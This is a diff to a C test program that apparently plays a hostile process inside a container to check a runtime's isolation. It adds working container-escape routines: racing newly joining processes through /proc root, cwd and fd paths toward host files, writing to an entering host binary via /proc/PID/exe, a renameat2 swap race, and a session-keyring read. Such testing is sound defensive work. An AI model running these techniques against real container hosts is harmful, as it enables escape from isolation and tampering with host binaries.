@@ -1,8 +1,10 @@
 /*
  * What a hostile program in a container tries. `attack calls` makes system calls that no container should be able to
  * make, with arguments that can do no harm should it be allowed, and says what came of each. `attack stages` lies in
- * wait for processes that are about to join the container, and tries to open what they have open. `attack overwrite` and
- * `attack identity` are what their names say.
+ * wait for processes that are about to join the container, and tries to open what they have open. `attack join` does so with
+ * CAP_SYS_PTRACE, which is the right to, and looks for a way to a file of the host. `attack capture` keeps the programs that
+ * others run and writes to them when they have ended. `attack swap` exchanges two names for ever. `attack overwrite`,
+ * `attack identity` and `attack session` are what their names say.
  */
 #include <dirent.h>
 #include <errno.h>
@@ -17,6 +19,7 @@
 #include <string.h>
 #include <sys/personality.h>
 #include <sys/socket.h>
+#include <sys/stat.h>
 #include <sys/syscall.h>
 #include <sys/wait.h>
 #include <time.h>
@@ -185,6 +188,117 @@ static int overwrite(const char *pid)
 	return 0;
 }
 
+/* Whether a way leads to a file of the host, from wherever in its tree. */
+static bool reaches(const char *way, const char *witness)
+{
+	char path[512];
+
+	snprintf(path, sizeof path, "%s/../../../../../../../../../..%s", way, witness);
+	return access(path, F_OK) == 0;
+}
+
+/* Whoever comes next in this pid namespace: it is there before anybody can have told of it. */
+static int newcomer(int *last)
+{
+	for (int pid = *last + 1; pid <= *last + 8; pid++) {
+		if (kill(pid, 0) == 0 || errno == EPERM) {
+			*last = pid;
+			return pid;
+		}
+	}
+	return 0;
+}
+
+static int join(const char *witness, int seconds)
+{
+	time_t end = time(NULL) + seconds;
+	unsigned seen = 0;
+	int last = getpid();
+
+	printf("ready\n");
+	while (time(NULL) < end) {
+		int pid = newcomer(&last);
+
+		seen += pid != 0;
+		while (pid && kill(pid, 0) == 0) {
+			char way[64];
+
+			for (int i = -2; i < 16; i++) {
+				if (i < 0)
+					snprintf(way, sizeof way, "/proc/%d/%s", pid, i == -1 ? "root" : "cwd");
+				else
+					snprintf(way, sizeof way, "/proc/%d/fd/%d", pid, i);
+				if (reaches(way, witness))
+					printf("reached the host by %s\n", strchr(way + 6, '/'));
+			}
+		}
+	}
+	printf("seen %u\n", seen);
+	return 0;
+}
+
+/* Keeps the program of each newcomer that is no program of the container's, and writes to it when nobody runs it. */
+static int capture(int seconds)
+{
+	time_t end = time(NULL) + seconds;
+	int last = getpid();
+	struct stat own;
+
+	if (stat("/bin/busybox", &own) < 0)
+		return 1;
+	printf("ready\n");
+	while (time(NULL) < end) {
+		int pid = newcomer(&last);
+		int kept = -1;
+
+		while (pid && kill(pid, 0) == 0) {
+			char way[64];
+			struct stat theirs;
+			int exe;
+
+			snprintf(way, sizeof way, "/proc/%d/exe", pid);
+			exe = kept < 0 ? open(way, O_RDONLY) : -1;
+			if (exe >= 0 && fstat(exe, &theirs) == 0 && theirs.st_dev != own.st_dev)
+				kept = exe;
+			else if (exe >= 0)
+				close(exe);
+		}
+		if (kept >= 0) {
+			char way[64];
+			int again;
+
+			snprintf(way, sizeof way, "/proc/self/fd/%d", kept);
+			again = open(way, O_WRONLY);
+			say("captured", again < 0 ? -1 : write(again, "#", 1));
+			if (again >= 0)
+				close(again);
+			close(kept);
+		}
+	}
+	return 0;
+}
+
+static int swap(const char *one, const char *other)
+{
+	printf("ready\n");
+	for (;;)
+		if (syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, other, 2) < 0) {
+			say("swap", -1);
+			return 1;
+		}
+}
+
+static int session(void)
+{
+	char text[256] = "";
+
+	if (syscall(SYS_keyctl, KEYCTL_DESCRIBE, KEY_SPEC_SESSION_KEYRING, text, sizeof text - 1) < 0)
+		say("session", -1);
+	else
+		printf("%s\n", text);
+	return 0;
+}
+
 int main(int argc, char **argv)
 {
 	setvbuf(stdout, NULL, _IOLBF, 0);
@@ -196,6 +310,14 @@ int main(int argc, char **argv)
 		return overwrite(argv[2]);
 	if (argc > 1 && strcmp(argv[1], "identity") == 0)
 		return printf("%d\n", (int)geteuid()) < 0;
-	fprintf(stderr, "attack: calls, identity, stages SECONDS, or overwrite PID\n");
+	if (argc > 3 && strcmp(argv[1], "join") == 0)
+		return join(argv[2], atoi(argv[3]));
+	if (argc > 2 && strcmp(argv[1], "capture") == 0)
+		return capture(atoi(argv[2]));
+	if (argc > 3 && strcmp(argv[1], "swap") == 0)
+		return swap(argv[2], argv[3]);
+	if (argc > 1 && strcmp(argv[1], "session") == 0)
+		return session();
+	fprintf(stderr, "attack: calls, identity, session, stages SECONDS, join WITNESS SECONDS, capture SECONDS, swap ONE OTHER, or overwrite PID\n");
 	return 2;
 }
